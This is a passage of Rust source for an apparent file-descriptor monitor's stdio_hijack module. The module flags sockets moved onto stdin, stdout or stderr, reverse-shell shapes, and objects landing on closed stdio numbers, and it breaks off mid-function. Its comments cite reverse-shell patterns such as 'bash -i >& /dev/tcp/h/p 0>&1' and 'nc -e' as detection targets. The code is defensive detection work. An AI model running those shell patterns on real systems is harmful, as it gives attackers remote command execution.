//! stdio_hijack: fds 0, 1 and 2 are where a program, and every program it runs, reads
//! its input and writes its output and errors. What goes wrong there:
//! - a socket moved onto them (`socket_onto_stdio`): by dup2/dup3, by dup or fcntl
//!   F_DUPFD/F_DUPFD_CLOEXEC onto a number closed for it (`close(0); dup(sock)`), or
//!   received over a unix socket (SCM_RIGHTS) onto a freed number. A shell or
//!   interpreter that reads its commands from a socket on its stdin and writes its
//!   output to it is a reverse shell's shape (critical); a socket on one stdio fd of
//!   another program is at most a warning. A shell that saved its stdio first and puts
//!   it back within the window (`printf ... >&3`, `read l <&3`, the
//!   `</dev/tcp/host/port` port check) redirected one command: nothing is raised.
//! - fd 0/1/2 closed, then a socket, anonymous inode or file given that number by a
//!   creating call (`landed_on_stdio`): the kernel hands out the lowest free fd (open(2):
//!   "the lowest-numbered file descriptor not currently open"), so the program's own
//!   object is now also its stdio, and whatever writes to stderr writes into it;
//! - such an object then overwritten by dup2/dup3 (`stdio_clobbered`, the statsd
//!   incident): the code still using "its" fd now talks to something else and fails
//!   with EISCONN, ENOTSOCK, ... Unless the socket moved there goes on to fds 0 and 1
//!   of a shell (`nc -e`: a throwaway socket landed on the closed fd 0 first): then it
//!   is one reverse-shell alert.
//!
//! Pipes, files, ttys and /dev/null put there by dup2 are what shells and daemons do
//! all day, and are not alerts.
use rustc_hash::FxHashMap as HashMap;

use fdwatch_common::Kind;

use super::{
    alert::{Alert, AlertKind, Evidence, Severity},
    allow::{Rule, Subject},
    explain,
    outbox::{FdMatch, Key, Outbox, Seen, SymptomRule},
    shells,
};
use crate::{
    clock::Clock,
    decode::{Body, Event, Payload},
    model::{Access, FdEntry, Model, Object, ObjectId, ObjectKind, Pid, Step},
    value::Value,
};

const SOCKET_ONTO: u8 = 0;
const LANDED: u8 = 1;
const CLOBBERED: u8 = 2;
/// A shell started on a socket after a warning about that socket was written.
const SHELL_LATER: u8 = 3;

/// What a call on an fd that now refers to the wrong object fails with (incident 1:
/// sendto() with an address on a connected stream socket gives EISCONN; a non-socket
/// gives ENOTSOCK; a read-only file EBADF; ...).
const SYMPTOMS: &[i32] = &[
    libc::EISCONN,
    libc::ENOTSOCK,
    libc::EBADF,
    libc::EINVAL,
    libc::ENOTCONN,
    libc::EDESTADDRREQ,
    libc::EOPNOTSUPP,
    libc::EAGAIN,
    libc::EPIPE,
    libc::ECONNREFUSED,
    libc::EAFNOSUPPORT,
];

const CLOSE_RANGE_CLOEXEC: u64 = 1 << 2;
const F_DUPFD: u64 = 0;
const F_DUPFD_CLOEXEC: u64 = 1030;
/// How long a redirection of a shell that saved its stdio first (as shells do for one
/// command, `cmd >&3`) may last before it is no longer taken for one: a builtin `read`
/// waiting for the network can take that long.
const HOLD_SAVED_NS: u64 = 30_000_000_000;

/// A socket-on-stdio incident being watched: raised (pending in the outbox) or written.
#[derive(Clone, Copy, Debug)]
struct Incident {
    key: Key,
    /// It forked or exec'd since: something ran with the socket on its stdio.
    ran: bool,
    severity: Severity,
}

#[derive(Default)]
pub struct Stdio {
    /// The call that last closed fd 0, 1 or 2 of a process: the first link of a
    /// landed_on_stdio chain.
    closes: HashMap<Pid, [Option<Event>; 3]>,
    /// Socket-on-stdio incidents by socket: one incident, one alert, whichever process
    /// and way it reaches.
    incidents: HashMap<ObjectId, Vec<Incident>>,
    /// Sockets an allowed program put on stdio, per process (inherited at fork): their
    /// services are allowed too.
    allowed: HashMap<Pid, Vec<ObjectId>>,
    /// Pending stdio_clobbered alerts by (process, the socket moved on): a reverse
    /// shell moving it onto more stdio fds turns one into socket_onto_stdio.
    clobbers: HashMap<(Pid, ObjectId), Key>,
    /// The stdio fd the current dup2 clobbered (set before the model applies it).
    clobbered_now: Option<(Pid, i32)>,
}

fn ok(event: &Event) -> Option<&[u64; 6]> {
    match &event.body {
        Body::Syscall { ret, args, .. } if *ret >= 0 => Some(args),
        _ => None,
    }
}

fn is_stdio(fd: i32) -> bool {
    (0..=2).contains(&fd)
}

/// Objects that have no business on stdio fd `fd` unless put there on purpose.
/// A file opened the way the stdio number is used is a shell's `close(1); open(f)`
/// redirection (bash does exactly that for `> f`); a file opened the other way, say
/// a database opened read-write that got fd 1, is where stray printfs will land.
fn foreign(fd: i32, entry: &FdEntry, o: &Object) -> bool {
    match o.kind {
        ObjectKind::Socket { .. } | ObjectKind::Anon { .. } | ObjectKind::Other { .. } => true,
        ObjectKind::File { .. } => match entry.access {
            Access::Read => fd != 0,
            Access::Write => fd == 0,
            Access::ReadWrite => true,
        },
        ObjectKind::Pipe | ObjectKind::Tty { .. } | ObjectKind::PtyMaster { .. } | ObjectKind::DevNull => false,
    }
}

/// A foreign object created on this very number (not moved here by a dup), kept
/// across forks and execs: it landed on a freed stdio number. A history cut short
/// (`Elided`) may have hidden a dup, so it does not count as landed.
fn landed(fd: i32, entry: &FdEntry, o: &Object) -> bool {
    let chain = entry.origin.chain();
    foreign(fd, entry, o)
        && chain.first().is_some_and(|s| matches!(s.step, Step::Created(_)))
        && !chain.iter().any(|s| matches!(s.step, Step::Dup { .. } | Step::Received { .. } | Step::Elided { .. }))
}

fn is_socket(o: &Object) -> bool {
    matches!(o.kind, ObjectKind::Socket { .. })
}

fn peer_of(o: &Object) -> Option<&str> {
    match &o.kind {
        ObjectKind::Socket { peer, .. } => peer.as_deref(),
        _ => None,
    }
}

/// Whether an allow rule covers `pid` with `object` on its stdio.
pub fn allowed_by(rules: &[Rule], model: &Model, pid: Pid, object: Option<&Object>) -> bool {
    let Some(p) = model.process(pid) else { return false };
    let parent = model.process(p.ppid);
    let subject = Subject {
        comm: &p.comm,
        exe: p.exe.as_deref(),
        parent_comm: parent.map(|q| &*q.comm),
        parent_exe: parent.and_then(|q| q.exe.as_deref()),
        peer: object.and_then(peer_of),
    };
    rules.iter().any(|r| r.matches(&subject))
}

fn stdio_list(fds: &[i32]) -> String {
    explain::list(&fds.iter().map(|&fd| explain::stdio_name(fd)).collect::<Vec<_>>())
}

fn fds_value(fds: &[i32]) -> Value {
    Value::List(fds.iter().map(|&fd| Value::Int(fd as i64)).collect())
}

fn set_field(alert: &mut Alert, name: &'static str, value: Value) {
    match alert.fields.iter_mut().find(|(k, _)| *k == name) {
        Some((_, v)) => *v = value,
        None => alert.fields.push((name, value)),
    }
}

fn comm_of(model: &Model, pid: Pid, event: &Event) -> String {
    model.process(pid).map_or_else(|| event.comm().into_owned(), |p| p.comm.to_string())
}

fn new_alert(
    model: &Model,
    event: &Event,
    pid: Pid,
    severity: Severity,
    message: String,
    fields: Vec<(&'static str, Value)>,
) -> Alert {
    let process = model.process(pid);
    Alert {
        id: 0,
        kind: AlertKind::StdioHijack,
        severity,
        pid,
        comm: comm_of(model, pid, event),
        exe: process.and_then(|p| p.exe.as_ref().map(|e| e.to_string())),
        message,
        evidence: Vec::new(),
        fields,
        ts_ns: event.header.ts_ns,
    }
}

fn object_value(entry: &FdEntry, o: &Object) -> Value {
    crate::model::describe::object(o, entry, None)
}

/// Landings are one alert per process and stdio number: a program started with its
/// stdout closed lands every file it opens there.
fn landed_key(pid: Pid, fd: i32) -> Key {
    Key { kind: AlertKind::StdioHijack, pid, object: fd as u64, variant: LANDED }
}

fn onto_key(pid: Pid, object: ObjectId) -> Key {
    Key { kind: AlertKind::StdioHijack, pid, object: object.0, variant: SOCKET_ONTO }
}

/// Whether `entry` is a copy of one of the process's own stdio fds (bash saves fd 2
/// with F_DUPFD before a redirection and dup2s it back after): putting it back is
/// no new hijack.
fn saved_stdio(entry: &FdEntry, pid: Pid) -> bool {
    entry.origin.chain().iter().any(|o| o.pid == pid && matches!(o.step, Step::Dup { from_fd: 0..=2, .. }))
}

/// Whether `pid` keeps a copy of what was on stdio fd `fd` before `object` replaced
/// it: another fd dup'd from `fd` by the process itself, as bash does before a
/// one-command redirection (`fcntl(1, F_DUPFD, 10)`, then `dup2(3, 1)`; bash's
/// redir.c add_undo_redirect) to put it back afterwards.
fn keeps_a_copy(model: &Model, pid: Pid, fd: i32, object: ObjectId) -> bool {
    let Some(table) = model.table_of(pid) else { return false };
    table.fds.iter().any(|(other, e)| {
        other > 2 && e.object != object && {
            let last = e.origin.last();
            last.pid == pid && matches!(last.step, Step::Dup { from_fd, .. } if from_fd == fd)
        }
    })
}

fn rule(pid: Pid, fds: Vec<i32>) -> Option<SymptomRule> {
    Some(SymptomRule { pid, fds: FdMatch::AnyOf(fds), errnos: SYMPTOMS })
}

/// The stdio fds of `pid` on `object`, in order.
fn stdio_on(model: &Model, pid: Pid, object: ObjectId) -> Vec<i32> {
    (0..3).filter(|&fd| model.fd(pid, fd).is_some_and(|(e, _)| e.object == object)).collect()
}

/// How bad a socket on these stdio fds of `pid` is. A shell or interpreter that reads
/// its commands from stdin, with the socket on stdin and stdout: whoever is at the
/// other end runs commands and sees their output (critical). Anything less: a warning.
fn severity(model: &Model, pid: Pid, fds: &[i32]) -> Severity {
    let shell = model.process(pid).is_some_and(|p| shells::is_shell(p) && shells::reads_commands_from_stdin(p));
    if shell && fds.contains(&0) && fds.contains(&1) { Severity::Critical } else { Severity::Warning }
}

/// How the socket got onto the stdio fds, from the moves and execs in the alert's
/// evidence: `with dup2()`, `by receiving it over a unix socket (recvmsg())`, then
/// `then exec'd /bin/sh`.
fn how(alert: &Alert, model: &Model, inherited: bool) -> String {
    let mut moves: Vec<String> = Vec::new();
    let mut execs: Vec<String> = Vec::new();
    for e in &alert.evidence {
        let Evidence::Event(ev) = e else { continue };
        let Body::Syscall { args, .. } = &ev.body else {
            if ev.kind == Kind::Exec && ev.header.pid == alert.pid {
                let exe = model.process(alert.pid).and_then(|p| p.exe.as_deref()).unwrap_or("a new program");
                if !execs.iter().any(|x| x == exe) {
                    execs.push(exe.to_owned());
                }
            }
            continue;
        };
        let m = match ev.kind {
            Kind::Fcntl if args[1] & 0xffff_ffff == F_DUPFD_CLOEXEC => "fcntl(F_DUPFD_CLOEXEC)".to_owned(),
            Kind::Fcntl => "fcntl(F_DUPFD)".to_owned(),
            Kind::Dup | Kind::Dup2 | Kind::Dup3 => format!("{}()", ev.kind.name()),
            Kind::Recvmsg | Kind::Recvmmsg => format!("{}() of an fd passed over a unix socket", ev.kind.name()),
            _ => continue,
        };
        let m = if ev.header.pid == alert.pid { m } else { format!("{m} in {}", explain::who(model, ev.header.pid)) };
        if !moves.contains(&m) {
            moves.push(m);
        }
    }
    let mut text = if moves.is_empty() {
        if inherited { "inherited".to_owned() } else { "there".to_owned() }
    } else {
        format!("with {}", explain::list(&moves))
    };
    if inherited && !moves.is_empty() {
        text = format!("put there {text}, inherited");
    }
    for exe in execs {
        text.push_str(&format!(", then exec'd {exe}"));
    }
    text
}

/// The sentence of a socket_onto_stdio alert, from what is true now: which stdio fds
/// hold the socket, and what the process is. Each fd says what it means; what fdwatch
/// cannot see (whether the program uses the fd) is said as a condition.
#[allow(clippy::too_many_arguments)]
fn onto_message(model: &Model, pid: Pid, comm: &str, o: &Object, fds: &[i32], how: &str, severity: Severity) -> String {
    let what = explain::object(o);
    let peer = peer_of(o).map_or_else(|| "the socket's peer".to_owned(), str::to_owned);
    let mut effects: Vec<String> = Vec::new();
    if fds.contains(&0) {
        effects.push(format!("what it reads from stdin comes from {peer}"));
    }
    if fds.contains(&1) {
        effects.push(format!("what it writes to stdout goes to {peer}"));
    }
    if fds.contains(&2) {
        effects.push("so do its error messages".into());
    }
    let shell = model.process(pid).is_some_and(shells::is_shell);
    let reads = model.process(pid).is_some_and(shells::reads_commands_from_stdin);
    let tail = match severity {
        Severity::Critical => format!(
            "it is a shell or interpreter reading its commands from stdin, so whoever is at {peer} runs commands as \
             pid {pid} and reads their output: a reverse shell's shape (a service that runs a shell on a connection \
             by design can be allowed with --allow)"
        ),
        _ if fds.contains(&0) && shell && reads => format!(
            "it reads its commands from stdin, so whoever is at {peer} can make it run commands, though their output \
             does not go back there"
        ),
        _ => "programs it starts inherit this unless they redirect it; it is not a shell reading commands from a \
              socket on its stdin and stdout, so this is not a remote shell's shape"
            .to_owned(),
    };
    format!("pid {pid} ({comm}) has {what} on its {}, {how}: {}; {tail}", stdio_list(fds), explain::list(&effects))
}

impl Stdio {
    /// Before the model applies `event`: what is about to be overwritten or closed.
    pub fn before(&mut self, model: &Model, clock: &Clock, outbox: &mut Outbox, event: &Event) {
        let pid = event.header.pid;
        match event.kind {
            Kind::Dup2 | Kind::Dup3 => {
                let Some(a) = ok(event) else { return };
                let (old, new) = (a[0] as i32, a[1] as i32);
                if is_stdio(new) && old != new {
                    self.clobber(model, clock, outbox, event, old, new);
                }
            }
            Kind::Close => {
                // The fd as close(2) took it: an `unsigned int`, the register's low 32
                // bits (decode/abi.rs). Indexing with the register itself let
                // close(0x100000001), which closes stdout, index far past the three.
                let Some(fd) = ok(event).map(|a| a[0] as i32).filter(|&fd| is_stdio(fd)) else { return };
                self.record_close(pid, fd, event);
                // Opened and closed again within the window (a program started with
                // stdout closed reading its libraries): nothing could use it.
                outbox.cancel(landed_key(pid, fd));
            }
            Kind::CloseRange => {
                let Some(a) = ok(event) else { return };
                if a[2] & CLOSE_RANGE_CLOEXEC == 0 {
                    for fd in (a[0] as u32).min(3)..=(a[1] as u32).min(2) {
                        self.record_close(pid, fd as i32, event);
                        outbox.cancel(landed_key(pid, fd as i32));
                    }
                }
            }
            _ => {}
        }
    }

    /// Remember `event` as the last close of stdio fd `fd` of `pid`.
    fn record_close(&mut self, pid: Pid, fd: i32, event: &Event) {
        if let Some(slot) = usize::try_from(fd).ok().and_then(|i| self.closes.entry(pid).or_default().get_mut(i)) {
            *slot = Some(*event);
        }
    }

    /// The last close of stdio fd `fd` of `pid`, if one was seen.
    fn last_close(&self, pid: Pid, fd: i32) -> Option<Event> {
        *self.closes.get(&pid)?.get(usize::try_from(fd).ok()?)?
    }

    /// After the model applied `event`: what landed or was moved onto a stdio number.
    pub fn after(&mut self, model: &Model, clock: &Clock, rules: &[Rule], outbox: &mut Outbox, event: &Event) {
        let pid = event.header.pid;
        let clobbered = self.clobbered_now.take().filter(|(p, _)| *p == pid).map(|(_, fd)| fd);
        match event.kind {
            Kind::Dup2 | Kind::Dup3 => {
                let Some(a) = ok(event) else { return };
                let (old, new) = (a[0] as i32, a[1] as i32);
                if is_stdio(new) && old != new {
                    self.moved(model, clock, rules, outbox, event, new, clobbered == Some(new));
                }
            }
            Kind::Dup => {
                if let Some(fd) = event.ret().map(|r| r as i32).filter(|&fd| is_stdio(fd)) {
                    self.moved(model, clock, rules, outbox, event, fd, false);
                }
            }
            Kind::Fcntl => {
                let Some(a) = ok(event) else { return };
                let fd = event.ret().unwrap_or(-1) as i32;
                if matches!(a[1] & 0xffff_ffff, F_DUPFD | F_DUPFD_CLOEXEC) && is_stdio(fd) {
                    self.moved(model, clock, rules, outbox, event, fd, false);
                }
            }
            Kind::Recvmsg | Kind::Recvmmsg => {
                let Body::Syscall { ret, payload: Payload::Received(r), .. } = &event.body else { return };
                if *ret < 0 {
                    return;
                }
                let n = (r.nfds as usize).min(r.fds.len());
                for &fd in r.fds[..n].iter().filter(|&&fd| is_stdio(fd)) {
                    match model.fd(pid, fd) {
                        Some((_, o)) if is_socket(o) => self.moved(model, clock, rules, outbox, event, fd, false),
                        _ => self.landed_on(model, clock, rules, outbox, event, fd),
                    }
                }
            }
            Kind::Fork => {
                let Body::Fork(f) = &event.body else { return };
                if f.is_thread == 0 {
                    if let Some(objects) = self.allowed.get(&pid).cloned() {
                        self.allowed.insert(f.child_pid, objects);
                    }
                    self.ran(pid);
                }
            }
            Kind::Exec => self.exec(model, clock, rules, outbox, event),
            Kind::Exit => {
                if let Body::Exit(e) = &event.body {
                    if e.group_dead != 0 {
                        self.exit(outbox, pid);
                    }
                }
            }
            _ => self.created(model, clock, rules, outbox, event),
        }
    }

    /// A creating call that may have put a foreign object on a freed stdio number.
    fn created(&mut self, model: &Model, clock: &Clock, rules: &[Rule], outbox: &mut Outbox, event: &Event) {
        let creates = matches!(
            event.kind,
            Kind::Socket
                | Kind::Socketpair
                | Kind::Open
                | Kind::Openat
                | Kind::Openat2
                | Kind::Creat
                | Kind::Accept
                | Kind::Accept4
        ) || event.kind.is_other_fd_creator();
        if !creates {
            return;
        }
        let Body::Syscall { ret, payload, .. } = &event.body else { return };
        if *ret < 0 {
            return;
        }
        let fds = match payload {
            Payload::FdPair(p) => p.fds.to_vec(),
            _ => vec![*ret as i32],
        };
        for fd in fds.into_iter().filter(|&fd| is_stdio(fd)) {
            self.landed_on(model, clock, rules, outbox, event, fd);
        }
    }

    fn landed_on(&self, model: &Model, clock: &Clock, rules: &[Rule], outbox: &mut Outbox, event: &Event, fd: i32) {
        let pid = event.header.pid;
        let Some((entry, o)) = model.fd(pid, fd) else { return };
        if !foreign(fd, entry, o) || allowed_by(rules, model, pid, Some(o)) {
            return;
        }
        let key = landed_key(pid, fd);
        if outbox.repeat(key) {
            return;
        }
        let what = explain::object(o);
        let harm = if fd == 0 {
            "whatever reads stdin now reads from it"
        } else {
            "whatever writes to it as stdout or stderr (error messages, a library's logging, programs it runs) now writes into it"
        };
        let message = format!(
            "pid {pid} ({}) got {what} as its {} from {}(), because fd {fd} had been closed: {harm}, and a later dup2 onto \
             fd {fd} would silently replace it",
            comm_of(model, pid, event),
            explain::stdio_name(fd),
            event.kind.name()
        );
        let fields = vec![
            ("shape", Value::Str("landed_on_stdio".into())),
            ("fds", fds_value(&[fd])),
            ("object", object_value(entry, o)),
        ];
        let mut alert = new_alert(model, event, pid, Severity::Warning, message, fields);
        if let Some(close) = self.last_close(pid, fd) {
            alert.evidence.push(Evidence::Event(close));
        }
        alert.evidence.push(Evidence::Event(*event));
        let text =
            format!("fd {fd} of {} is {what}, {}", explain::who(model, pid), explain::story(model, &entry.origin));
        alert.evidence.push(Evidence::Fact(explain::entry_fact(clock, pid, fd, entry, o, text)));
        outbox.raise(key, alert, rule(pid, vec![fd]));
    }

    /// Before a dup2/dup3 onto stdio fd `new`: a landed object about to be overwritten.
    fn clobber(&mut self, model: &Model, clock: &Clock, outbox: &mut Outbox, event: &Event, old: i32, new: i32) {
        let pid = event.header.pid;
        let Some((src_entry, src)) = model.fd(pid, old) else { return };
        let Some((dst_entry, dst)) = model.fd(pid, new) else { return };
        // Already there (bash restoring a saved stderr that was the socket anyway).
        if dst_entry.object == src_entry.object || !landed(new, dst_entry, dst) {
            return;
        }
        self.clobbered_now = Some((pid, new));
        let comm = comm_of(model, pid, event);
        let (was, now) = (explain::object(dst), explain::object(src));
        let created = match dst_entry.origin.chain().first().map(|s| s.step) {
            Some(Step::Created(kind)) => format!("{}()", kind.name()),
            _ => "a creating call".to_owned(),
        };
        let message = format!(
            "pid {pid} ({comm}) overwrote its {} with {}(): fd {new} held {was}, which {created} had put there after fd \
             {new} was closed and which its code may still use as fd {new}; if it does, those calls now reach {now} \
             instead, and fail or talk to the wrong peer",
            explain::stdio_name(new),
            event.kind.name()
        );
        let now_fact = {
            let text = format!(
                "fd {old} of {} is {now}, {}",
                explain::who(model, pid),
                explain::story(model, &src_entry.origin)
            );
            explain::entry_fact(clock, pid, old, src_entry, src, text)
        };
        let key = Key { kind: AlertKind::StdioHijack, pid, object: dst_entry.object.0, variant: CLOBBERED };
        if is_socket(src) {
            self.clobbers.insert((pid, src_entry.object), key);
        }
        // Still waiting as a landing warning: it becomes this alert, one chain from the
        // close to the symptoms (and closing fd 0 later no longer cancels it).
        if let Some(alert) = outbox.rekey(landed_key(pid, new), key) {
            alert.severity = Severity::Critical;
            alert.message = message;
            set_field(alert, "shape", Value::Str("stdio_clobbered".into()));
            set_field(alert, "object", object_value(src_entry, src));
            set_field(alert, "clobbered", object_value(dst_entry, dst));
            alert.evidence.push(Evidence::Fact(now_fact));
            alert.evidence.push(Evidence::Event(*event));
            return;
        }
        if outbox.repeat(key) {
            return;
        }
        let fields = vec![
            ("shape", Value::Str("stdio_clobbered".into())),
            ("fds", fds_value(&[new])),
            ("object", object_value(src_entry, src)),
            ("clobbered", object_value(dst_entry, dst)),
        ];
        let mut alert = new_alert(model, event, pid, Severity::Critical, message, fields);
        if let Some(close) = self.last_close(pid, new) {
            alert.evidence.push(Evidence::Event(close));
        }
        let text =
            format!("fd {new} of {} was {was}, {}", explain::who(model, pid), explain::story(model, &dst_entry.origin));
        alert.evidence.push(Evidence::Fact(explain::entry_fact(clock, pid, new, dst_entry, dst, text)));
        alert.evidence.push(Evidence::Fact(now_fact));
        alert.evidence.push(Evidence::Event(*event));
        outbox.raise(key, alert, rule(pid, vec![new]));
    }

    /// After a call moved an object onto stdio fd `fd` of the caller: dup2/dup3, dup,
    /// fcntl F_DUPFD*, or a receive.
    #[allow(clippy::too_many_arguments)]
    fn moved(
        &mut self,
        model: &Model,
        clock: &Clock,
        rules: &[Rule],
        outbox: &mut Outbox,
        event: &Event,
        fd: i32,
        clobbered: bool,
    ) {
        let pid = event.header.pid;
        let Some((entry, o)) = model.fd(pid, fd) else { return };
        let object = entry.object;
        if !is_socket(o) {
            // Maybe a shell putting its saved stdio back: a redirection is over.
            self.undone(model, outbox, pid);
            return;
        }
        let Body::Syscall { args, .. } = &event.body else { return };
        // The fd it came from (a receive has none): a copy of the process's own stdio,
        // saved before a redirection, is being put back. Not a new hijack.
        let source = match event.kind {
            Kind::Dup | Kind::Dup2 | Kind::Dup3 | Kind::Fcntl => model.fd(pid, args[0] as i32),
            _ => None,
        };
        if source.is_some_and(|(src, _)| saved_stdio(src, pid)) {
            self.undone(model, outbox, pid);
            return;
        }
        if self.allowed.get(&pid).is_some_and(|objects| objects.contains(&object)) {
            return;
        }
        if allowed_by(rules, model, pid, Some(o)) {
            self.allowed.entry(pid).or_default().push(object);
            return;
        }
        let key = onto_key(pid, object);
        // `nc -e`: the dup2 over a landed throwaway socket started as a clobber; the
        // same socket going onto another stdio fd makes it a remote shell after all.
        if let Some(clobber) = self.clobbers.remove(&(pid, object)) {
            if !clobbered && outbox.is_pending(clobber) {
                if let Some(alert) = outbox.rekey(clobber, key) {
                    set_field(alert, "shape", Value::Str("socket_onto_stdio".into()));
                    alert.fields.retain(|(k, _)| *k != "clobbered");
                }
                self.incidents.entry(object).or_default().push(Incident {
                    key,
                    ran: false,
                    severity: Severity::Warning,
                });
            } else {
                self.clobbers.insert((pid, object), clobber);
            }
        }
        if clobbered {
            return;
        }
        let fds = stdio_on(model, pid, object);
        let severity = severity(model, pid, &fds);
        let comm = comm_of(model, pid, event);
        match outbox.seen(key) {
            Seen::Repeated => {}
            // `bash -i >& /dev/tcp/h/p 0>&1` is three dup2s: one alert naming all three.
            Seen::Pending(alert) => {
                alert.evidence.push(Evidence::Event(*event));
                alert.severity = severity;
                set_field(alert, "fds", fds_value(&fds));
                alert.message = onto_message(model, pid, &comm, o, &fds, &how(alert, model, false), severity);
                if let Some(i) = self.incident_mut(object, key) {
                    i.severity = severity;
                }
            }
            Seen::New => {
                let saved = keeps_a_copy(model, pid, fd, object);
                let fields = vec![
                    ("shape", Value::Str("socket_onto_stdio".into())),
                    ("fds", fds_value(&fds)),
                    ("object", object_value(entry, o)),
                ];
                let mut alert = new_alert(model, event, pid, severity, String::new(), fields);
                self.socket_fact(model, clock, pid, &mut alert, fd, entry, o, event);
                alert.evidence.push(Evidence::Event(*event));
                alert.message = onto_message(model, pid, &comm, o, &fds, &how(&alert, model, false), severity);
                let ts = event.header.ts_ns;
                outbox.raise(key, alert, rule(pid, vec![0, 1, 2]));
                if saved {
                    // A shell's redirection for one command: held until it puts stdio back.
                    outbox.set_due(key, ts.saturating_add(HOLD_SAVED_NS));
                }
                self.incidents.entry(object).or_default().push(Incident { key, ran: false, severity });
            }
        }
    }

    /// The fact about the socket that was moved: where it came from.
    #[allow(clippy::too_many_arguments)]
    fn socket_fact(
        &self,
        model: &Model,
        clock: &Clock,
        pid: Pid,
        alert: &mut Alert,
        fd: i32,
        entry: &FdEntry,
        o: &Object,
        event: &Event,
    ) {
        // The source fd of a dup, else the fd itself (a receive).
        let src = match (&event.body, event.kind) {
            (Body::Syscall { args, .. }, Kind::Dup | Kind::Dup2 | Kind::Dup3 | Kind::Fcntl) => args[0] as i32,
            _ => fd,
        };
        let (e, obj, at) = match model.fd(pid, src) {
            Some((e, obj)) if e.object == entry.object => (e, obj, src),
            _ => (entry, o, fd),
        };
        let text = format!(
            "fd {at} of {} is {}, {}",
            explain::who(model, pid),
            explain::object(obj),
            explain::story(model, &e.origin)
        );
        let mut fact = explain::entry_fact(clock, pid, at, e, obj, text);
        // Told as of the move, not as of the fd's last step.
        fact.ts_ns = fact.ts_ns.min(event.header.ts_ns);
        alert.evidence.push(Evidence::Fact(fact));
    }

    fn incident_mut(&mut self, object: ObjectId, key: Key) -> Option<&mut Incident> {
        self.incidents.get_mut(&object)?.iter_mut().find(|i| i.key == key)
    }

    /// Something ran in `pid` (fork): its redirections are no longer a builtin's.
    fn ran(&mut self, pid: Pid) {
        for list in self.incidents.values_mut() {
            for i in list.iter_mut().filter(|i| i.key.pid == pid) {
                i.ran = true;
            }
        }
    }

    /// `pid` changed its stdio from a saved copy: its pending socket alerts whose socket
    /// is on none of its stdio fds any more were a one-command redirection. Nothing is
    /// raised for them.
    fn undone(&mut self, model: &Model, outbox: &mut Outbox, pid: Pid) {
        let mut over = Vec::new();
        for (object, list) in &self.incidents {
            for i in list.iter().filter(|i| i.key.pid == pid) {
                if outbox.is_pending(i.key) && stdio_on(model, pid, *object).is_empty() {
                    over.push((*object, i.key));
                }
            }
        }
        for (object, key) in over {
            outbox.cancel(key);
            self.forget(object, key);
        }
    }

    fn forget(&mut self, object: ObjectId, key: Key) {
        if let Some(list) = self.incidents.get_mut(&object) {
            list.retain(|i| i.key != key);
            if list.is_empty() {
                self.incidents.remove(&object);
            }
        }
    }

    /// `pid` exited. A socket it had put on stdio without being a shell with it on stdin
    /// and stdout, that nothing ran with (no fork, no exec) and that is still within its
    /// window, could only have been used by the process itself for the moment it lived:
    /// the `</dev/tcp/host/port` port check of health scripts. Dropped.
    fn exit(&mut self, outbox: &mut Outbox, pid: Pid) {
        let mut dropped = Vec::new();
        for (object, list) in &self.incidents {
            for i in list.iter().filter(|i| i.key.pid == pid) {
                if !i.ran && i.severity != Severity::Critical && outbox.is_pending(i.key) {
                    dropped.push((*object, i.key));
                }
            }
        }
        for (object, key) in dropped {
            outbox.cancel(key);
            self.forget(object, key);
        }
        for list in self.incidents.values_mut() {
            list.retain(|i| i.key.pid != pid);
        }
        self.incidents.retain(|_, l| !l.is_empty());
        self.closes.remove(&pid);
        self.allowed.remove(&pid);
        self.clobbers.retain(|(p, _), _| *p != pid);
    }

    /// After an exec: the new program decides the shape. Pending alerts of the process
    /// are told again (a C reverse shell dup2s, then execs /bin/sh), or dropped when
    /// the socket went with CLOEXEC; and a shell started with a socket on its stdin and
    /// stdout, however it got there, is one.
    fn exec(&mut self, model: &Model, clock: &Clock, rules: &[Rule], outbox: &mut Outbox, event: &Event) {
        let pid = event.header.pid;
        self.ran(pid);
        let mine: Vec<(ObjectId, Incident)> = self
            .incidents
            .iter()
            .flat_map(|(o, l)| l.iter().filter(|i| i.key.pid == pid).map(move |i| (*o, *i)))
            .collect();
        for (object, incident) in mine {
            let fds = stdio_on(model, pid, object);
            if fds.is_empty() {
                if outbox.is_pending(incident.key) {
                    outbox.cancel(incident.key);
                    self.forget(object, incident.key);
                }
                continue;
            }
            let severity = severity(model, pid, &fds);
            if let Some(alert) = outbox.pending_mut(incident.key) {
                let Some((entry, o)) = model.fd(pid, fds[0]) else { continue };
                alert.severity = severity;
                alert.comm = comm_of(model, pid, event);
                alert.exe = model.process(pid).and_then(|p| p.exe.as_ref().map(|e| e.to_string()));
                alert.evidence.push(Evidence::Event(*event));
                alert.message = onto_message(model, pid, &alert.comm, o, &fds, &how(alert, model, false), severity);
                set_field(alert, "fds", fds_value(&fds));
                set_field(alert, "object", object_value(entry, o));
                let sev = alert.severity;
                // Something runs with it now: no longer held as a one-command redirection.
                outbox.set_due(incident.key, outbox.window_end(event.header.ts_ns));
                if let Some(i) = self.incident_mut(object, incident.key) {
                    i.severity = sev;
                }
            }
        }
        self.shell_on_socket(model, clock, rules, outbox, event);
    }

    /// A shell reading commands from stdin starts with one socket on its stdin and
    /// stdout: put there by an earlier dup in this process, or inherited.
    fn shell_on_socket(&mut self, model: &Model, clock: &Clock, rules: &[Rule], outbox: &mut Outbox, event: &Event) {
        let pid = event.header.pid;
        let (Some((in_entry, o)), Some((out_entry, _))) = (model.fd(pid, 0), model.fd(pid, 1)) else { return };
        let object = in_entry.object;
        if out_entry.object != object || !is_socket(o) {
            return;
        }
        let fds = stdio_on(model, pid, object);
        if severity(model, pid, &fds) != Severity::Critical {
            return;
        }
        if self.allowed.get(&pid).is_some_and(|l| l.contains(&object)) || allowed_by(rules, model, pid, Some(o)) {
            return;
        }
        let key = onto_key(pid, object);
        let others: Vec<Incident> = self.incidents.get(&object).cloned().unwrap_or_default();
        // This process's own alert about it, updated above.
        if others.iter().any(|i| i.key == key && (outbox.is_pending(key) || i.severity == Severity::Critical)) {
            if !outbox.is_pending(key) {
                outbox.repeat(key);
            }
            return;
        }
        // Already told as critical (a reverse shell's commands start more shells).
        if let Some(i) = others.iter().find(|i| i.severity == Severity::Critical && !outbox.is_pending(i.key)) {
            outbox.repeat(i.key);
            return;
        }
        let comm = comm_of(model, pid, event);
        let inherited =
            in_entry.origin.chain().iter().any(|s| s.pid == pid && matches!(s.step, Step::Inherited { .. }));
        let mut alert = {
            let fields = vec![
                ("shape", Value::Str("socket_onto_stdio".into())),
                ("fds", fds_value(&fds)),
                ("object", object_value(in_entry, o)),
            ];
            new_alert(model, event, pid, Severity::Critical, String::new(), fields)
        };
        let text = format!(
            "fd 0 of {} is {}, {}",
